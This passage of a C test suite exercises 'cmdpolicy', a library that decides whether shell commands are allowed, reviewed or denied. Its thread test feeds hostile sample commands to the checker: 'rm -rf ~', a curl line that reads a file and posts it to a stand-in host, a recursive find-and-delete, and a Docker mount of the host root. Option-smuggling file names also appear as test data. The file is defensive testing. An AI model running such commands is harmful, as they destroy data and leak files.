                                   "effects: {read: {default: allow}, write: {default: allow}}\n";
        cmdpolicy_builder *b = cmdpolicy_builder_new();
        cmdpolicy_policy *policy = NULL;
        cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "looker.yaml", yaml, sizeof yaml - 1);
        ck_assert_int_eq(cmdpolicy_builder_set_limit(b, "looks", 3), CMDPOLICY_OK);
        ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
        cmdpolicy_builder_free(b);
        asked a;
        static const struct {
            const char *text;
            cmdpolicy_verdict verdict;
            int asked;
        } cases[] = {{"t x y", CMDPOLICY_ALLOW, 0}, /* nobody is asked for nothing */
                     {"t ./*; t sub/*; t -- *", CMDPOLICY_ALLOW, 0},
                     {"t *", CMDPOLICY_ALLOW, 1},
                     {"t *; t *.c; for i in *; do t $i; done", CMDPOLICY_ALLOW, 1},
                     {"cd a && t *; cd /work/b && t *; t *", CMDPOLICY_ALLOW, 3},
                     {"cd bad && t *", CMDPOLICY_REVIEW, 1},
                     {"t *; cd a && t * && cd b && t * && cd c && t *", CMDPOLICY_REVIEW, 3}, /* the limit */
                     {"w x; t *", CMDPOLICY_REVIEW, 0},
                     {"unknown; t *", CMDPOLICY_REVIEW, 1},
                     {"cd $X && t *", CMDPOLICY_REVIEW, 0},
                     {"cd /elsewhere && t *", CMDPOLICY_REVIEW, 0}};
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
            cmdpolicy_verdict verdict = looked(policy, &a, cases[i].text);
            ck_assert_msg(verdict == cases[i].verdict && a.count == cases[i].asked, "%s: %s, asked %d times",
                          cases[i].text, verdict_name(verdict), a.count);
        }
        /* The fact as data: it counts alone, before the callback, and an unknown one takes a known one back. */
        for (int i = 0; i < 4; i++) {
            cmdpolicy_request *r = cmdpolicy_request_new(policy);
            a.count = 0;
            cmdpolicy_request_set_cwd(r, "/work", 5);
            cmdpolicy_request_add_workspace(r, "/work", 5, CMDPOLICY_TRUSTED);
            cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t *", 3);
            if (i != 3)
                cmdpolicy_request_add_directory(r, "/x/../work/", 11, CMDPOLICY_NAMES_PLAIN);
            if (i == 1 || i == 2)
                cmdpolicy_request_set_looker(r, look, &a);
            if (i == 2)
                cmdpolicy_request_add_directory(r, "/work", 5, CMDPOLICY_NAMES_UNKNOWN);
            cmdpolicy_decision *d = cmdpolicy_check(policy, r);
            ck_assert_int_eq(cmdpolicy_decision_verdict(d), i < 2 ? CMDPOLICY_ALLOW : CMDPOLICY_REVIEW);
            ck_assert_int_eq(a.count, 0);
            cmdpolicy_decision_free(d);
            cmdpolicy_request_free(r);
        }
        cmdpolicy_policy_free(policy);
    }
END_TEST

START_TEST(plain_names)
    {
        static const struct {
            const char *name;
            int plain;
        } cases[] = {{"a", 1},     {"a-b", 1},   {"a b", 1},   {".-", 1},   {"a--", 1},
                     {"", 0},      {"-", 0},     {"-x", 0},    {"--x", 0},  {"a -b", 0},
                     {"a\t-b", 0}, {"a\n-b", 0}, {"a\r-b", 0}, {"'-x'", 0}, {"a\"-b", 0},
                     {"\\-x", 0},  {"`-x", 0},   {"a ", 0},    {"a\n", 0},  {"a'", 0},
                     {"a\\", 0},   {"\x7f-", 0}, {" a", 1},    {"a' b", 1}, {"\xe2\x80\x90x", 1}};
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
            ck_assert_msg(cmdpolicy_name_is_plain(cases[i].name, strlen(cases[i].name)) == cases[i].plain,
                          "%s", cases[i].name);
        ck_assert_int_eq(cmdpolicy_name_is_plain(NULL, 0), 0);
        ck_assert_int_eq(cmdpolicy_name_is_plain("a\0-x", 4), 0);
        static const char *const simple[] = {"a", ".a", "..", "_", "9", "a-b", "a+=,~", "A.B"};
        for (size_t i = 0; i < sizeof simple / sizeof simple[0]; i++)
            ck_assert_msg(cmdpolicy_name_is_simple(simple[i], strlen(simple[i])) == 1, "%s", simple[i]);
        for (uint32_t c = 0; c < 256; c++) { /* each such name is plain, and no sign is the first */
            const char first[] = {(char)c, 'a'}, last[] = {'a', (char)c};
            const bool word = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                              c == '_' || c == '.';
            ck_assert_int_eq(cmdpolicy_name_is_simple(first, 2), word);
            ck_assert_int_eq(cmdpolicy_name_is_simple(last, 2),
                             word || c == '-' || c == '+' || c == ',' || c == '=' || c == '~');
            ck_assert(!cmdpolicy_name_is_simple(first, 2) || cmdpolicy_name_is_plain(first, 2));
            ck_assert(!cmdpolicy_name_is_simple(last, 2) || cmdpolicy_name_is_plain(last, 2));
        }
        ck_assert_int_eq(cmdpolicy_name_is_simple("", 0), 0);
        ck_assert_int_eq(cmdpolicy_name_is_simple(NULL, 0), 0);
    }
END_TEST

/* Bytes that are no image, or are one no longer, give an error or a policy that can be asked; never anything else. */
START_TEST(hostile_images)
    {
        cmdpolicy_builder *b = cmdpolicy_builder_new();
        uint64_t s = 5;
        static unsigned char bytes[4096] __attribute__((aligned(8)));
        ck_assert_int_eq(cmdpolicy_builder_add_image_static(b, CMDPOLICY_LAYER_USER, "x", bytes + 1, 100),
                         CMDPOLICY_ERR_ARGUMENT);
        cmdpolicy_builder_free(b);
        for (int i = 0; i < 2000; i++) {
            size_t n = below(&s, sizeof bytes);
            for (size_t k = 0; k < n; k++)
                bytes[k] = (unsigned char)next_random(&s);
            if (i % 2)
                memcpy(bytes, "CMDPOLI", 7);
            b = cmdpolicy_builder_new();
            cmdpolicy_policy *policy = NULL;
            cmdpolicy_status status =
                i % 3 ? cmdpolicy_builder_add_image(b, CMDPOLICY_LAYER_USER, "x", bytes, n)
                      : cmdpolicy_builder_add_image_static(b, CMDPOLICY_LAYER_USER, "x", bytes, n);
            ck_assert(status == CMDPOLICY_ERR_POLICY || status == CMDPOLICY_ERR_UNSUPPORTED ||
                      (status == CMDPOLICY_ERR_ARGUMENT && n == 0));
            ck_assert_int_ne(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
            cmdpolicy_builder_free(b);
        }
    }
END_TEST

static void *ask_often(void *policy) {
    static const char *const texts[] = {"gh pr view 12", "rm -rf ~",
                                        "A=$(cat x); curl -d \"$A\" https://x.test", "find . -exec rm {} +",
                                        "docker run -v /:/h x"};
    uintptr_t sum = 0;
    for (int i = 0; i < 60; i++)
        sum = sum * 3 + (uintptr_t)verdict_here(policy, texts[i % 5]);
    return (void *)sum;
}

START_TEST(threads_share_a_policy)
    {
        cmdpolicy_builder *b = cmdpolicy_builder_new();
        cmdpolicy_policy *policy = NULL;
        ck_assert_int_eq(cmdpolicy_builder_add_builtin(b, "read-only"), CMDPOLICY_OK);
        ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
        cmdpolicy_builder_free(b);
        pthread_t threads[6];
        for (int i = 0; i < 6; i++)
            ck_assert_int_eq(pthread_create(&threads[i], NULL, ask_often, policy), 0);
        void *first = ask_often(policy);
        for (int i = 0; i < 6; i++) {
            void *sum = NULL;
            pthread_join(threads[i], &sum);
            ck_assert_ptr_eq(sum, first);
        }
        cmdpolicy_policy_free(policy);
    }
END_TEST

/* Equal policy and request give equal bytes; other limits, layers and texts give another digest. */
START_TEST(determinism)
    {
        static const char *const texts[] = {"t no", "t \"$A\" ~/x; sh -c \"t $B\"",
                                            "for i in a b; do t $i; done | t -o /x", "t 'a"};
        cmdpolicy_policy *one = build_small(), *two = build_small();
        cmdpolicy_string x, y;
        for (size_t i = 0; i < 4; i++) {
            cmdpolicy_decision *a = decide_here(one, texts[i]), *c = decide_here(two, texts[i]);
            ck_assert_int_eq(cmdpolicy_decision_render(a, "json", &x), CMDPOLICY_OK);
            ck_assert_int_eq(cmdpolicy_decision_render(c, "json", &y), CMDPOLICY_OK);
            ck_assert(x.size == y.size && memcmp(x.data, y.data, x.size) == 0);
            cmdpolicy_decision_free(a);
            cmdpolicy_decision_free(c);
        }
        ck_assert_int_eq(cmdpolicy_policy_digest(one, &x), CMDPOLICY_OK);
        ck_assert_int_eq(cmdpolicy_policy_digest(two, &y), CMDPOLICY_OK);
        ck_assert(x.size == 64 && memcmp(x.data, y.data, 64) == 0);
        for (int i = 0; i < 3; i++) {
            cmdpolicy_builder *b = cmdpolicy_builder_new();
            cmdpolicy_policy *other = NULL;
            cmdpolicy_builder_add_yaml(b, i == 0 ? CMDPOLICY_LAYER_SYSTEM : CMDPOLICY_LAYER_USER,
                                       "small.yaml", small_policy, sizeof small_policy - 1 - (i == 1));
            if (i == 2)
                cmdpolicy_builder_set_limit(b, "depth", 7);
            ck_assert_int_eq(cmdpolicy_builder_build(b, &other), CMDPOLICY_OK);
            cmdpolicy_builder_free(b);
            ck_assert_int_eq(cmdpolicy_policy_digest(other, &y), CMDPOLICY_OK);
            ck_assert_msg(memcmp(x.data, y.data, 64) != 0, "%d", i);
            cmdpolicy_policy_free(other);
        }
        cmdpolicy_policy_free(one);
        cmdpolicy_policy_free(two);
    }
END_TEST

START_TEST(settings_for_callers)
    {
        static const struct {
            cmdpolicy_layer layer;
            const char *text;
        } files[] = {{CMDPOLICY_LAYER_SYSTEM, "cmdpolicy: 1\ndefaults: {audit: {file: /s, redact: none}}\n"},
                     {CMDPOLICY_LAYER_USER, "cmdpolicy: 1\ndefaults: {audit: ~/u}\n"},
                     {CMDPOLICY_LAYER_REQUIREMENTS, "cmdpolicy: 1\ndefaults: {audit: {required: yes}}\n"}};
        cmdpolicy_builder *b = cmdpolicy_builder_new();
        cmdpolicy_policy *policy = NULL;
        cmdpolicy_string text;
        int32_t pinned = 7;
        for (size_t i = 0; i < 3; i++)
            ck_assert_int_eq(
                cmdpolicy_builder_add_yaml(b, files[i].layer, "x", files[i].text, strlen(files[i].text)),
                CMDPOLICY_OK);
        ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
        cmdpolicy_builder_free(b);
        ck_assert_int_eq(cmdpolicy_policy_setting(policy, "audit-file", &text, &pinned), CMDPOLICY_OK);
        ck_assert(text.size == 3 && memcmp(text.data, "~/u", 3) == 0 && pinned == 0);
        ck_assert_int_eq(cmdpolicy_policy_setting(policy, "audit-redact", &text, NULL), CMDPOLICY_OK);
        ck_assert(text.size == 4 && memcmp(text.data, "none", 4) == 0);
        ck_assert_int_eq(cmdpolicy_policy_setting(policy, "audit-required", &text, &pinned), CMDPOLICY_OK);
        ck_assert(text.size == 3 && memcmp(text.data, "yes", 3) == 0 && pinned == 1);
        ck_assert_int_eq(cmdpolicy_policy_setting(policy, "audit", &text, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_policy_setting(policy, NULL, &text, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_policy_setting(policy, "audit-file", NULL, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_policy_setting(NULL, "audit-file", &text, NULL), CMDPOLICY_ERR_ARGUMENT);
        cmdpolicy_policy_free(policy);
        policy = build_small();
        ck_assert_int_eq(cmdpolicy_policy_setting(policy, "audit-file", &text, NULL), CMDPOLICY_ERR_RANGE);
        cmdpolicy_policy_free(policy);
    }
END_TEST

/* A later layer's entry stands in an earlier one's place where it surely holds; where it may hold, both are heard. */
START_TEST(later_entries_replace_surely)
    {
        static const char system[] =
            "cmdpolicy: 1\ncommands: {show: {operands: [read*]}}\nrules: {show: by-effects}\n"
            "effects: {read: {/x/**: deny, default: allow}}\n";
        static const struct {
            const char *user, *command;
            const char *sandbox;
            cmdpolicy_verdict verdict;
        } cases[] = {
            {"effects: {read: {/x/**: allow}}\n", "show /x/a", NULL, CMDPOLICY_ALLOW},
            {"effects: {read: {/x/**: {when: {sandbox: read-only}, verdict: allow}}}\n", "show /x/a",
             "read-only", CMDPOLICY_ALLOW},
            {"effects: {read: {/x/**: {when: {sandbox: read-only}, verdict: allow}}}\n", "show /x/a", NULL,
             CMDPOLICY_DENY},
            {"effects: {read: {/x/**: {when: {sandbox: read-only}, verdict: allow}}}\n", "show /x/a", "none",
             CMDPOLICY_DENY},
            {"effects: {read: {/x/**: {when: {sandbox: read-only}, verdict: allow}}}\n", "show /y", NULL,
             CMDPOLICY_ALLOW},
            {"effects: {read: {/x/**: [{when: {sandbox: read-only}, verdict: allow}, review]}}\n",
             "show /x/a", "read-only", CMDPOLICY_ALLOW},
            {"effects: {read: {/x/**: [{when: {sandbox: read-only}, verdict: allow}, review]}}\n",
             "show /x/a", "none", CMDPOLICY_REVIEW},
            {"effects: {read: {/x/**: [{when: {sandbox: read-only}, verdict: allow}, review]}}\n",
             "show /x/a", NULL, CMDPOLICY_REVIEW},
            {"effects: {read: {/x/**: {when: {sandbox: read-only}, verdict: review}}}\n", "show /x/a",
             "read-only", CMDPOLICY_REVIEW},
            {"effects: {read: {/x/**: {when: {sandbox: read-only}, verdict: review}}}\n", "show /x/a", NULL,
             CMDPOLICY_DENY},
        };
        for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
            cmdpolicy_builder *b = cmdpolicy_builder_new();
            cmdpolicy_policy *policy = NULL;
            char user[256];
            snprintf(user, sizeof user, "cmdpolicy: 1\n%s", cases[i].user);
            ck_assert_int_eq(
                cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_SYSTEM, "s.yaml", system, sizeof system - 1),
                CMDPOLICY_OK);
            ck_assert_int_eq(
                cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "u.yaml", user, strlen(user)),
                CMDPOLICY_OK);
            ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
            cmdpolicy_builder_free(b);
            cmdpolicy_request *q = cmdpolicy_request_new(policy);
            ck_assert_int_eq(cmdpolicy_request_set_shell(q, CMDPOLICY_DIALECT_BASH, cases[i].command,
                                                         strlen(cases[i].command)),
                             CMDPOLICY_OK);
            ck_assert_int_eq(cmdpolicy_request_set_cwd(q, "/w", 2), CMDPOLICY_OK);
            if (cases[i].sandbox)
                ck_assert_int_eq(
                    cmdpolicy_request_set_fact(q, "sandbox", cases[i].sandbox, strlen(cases[i].sandbox)),
                    CMDPOLICY_OK);
            cmdpolicy_decision *d = cmdpolicy_check(policy, q);
            ck_assert_msg(cmdpolicy_decision_verdict(d) == cases[i].verdict, "%zu: %d", i,
                          cmdpolicy_decision_verdict(d));
            cmdpolicy_decision_free(d);
            cmdpolicy_request_free(q);
            cmdpolicy_policy_free(policy);
        }
    }
END_TEST

Suite *suite_api(void);
Suite *suite_api(void) {
    Suite *suite = suite_create("api");
    TCase *tcase = tcase_create("contract");
    tcase_add_test(tcase, nothing_given);
    tcase_add_test(tcase, static_decisions);
    tcase_add_test(tcase, invalid_requests);
    tcase_add_test(tcase, struct_sizes);
    tcase_add_test(tcase, builder_errors);
    tcase_add_test(tcase, empty_policy);
    tcase_add_test(tcase, decision_outlives_all);
    tcase_add_test(tcase, requests_are_reused);
    tcase_add_test(tcase, limits);
    tcase_add_test(tcase, later_entries_replace_surely);
    tcase_add_test(tcase, a_limit_lifts_nothing);
    tcase_add_test(tcase, resolver);
    tcase_add_test(tcase, looker);
    tcase_add_test(tcase, plain_names);
    tcase_add_test(tcase, hostile_images);
    tcase_add_test(tcase, threads_share_a_policy);
    tcase_add_test(tcase, determinism);
    tcase_add_test(tcase, settings_for_callers);
    suite_add_tcase(suite, tcase);
    return suite;
}
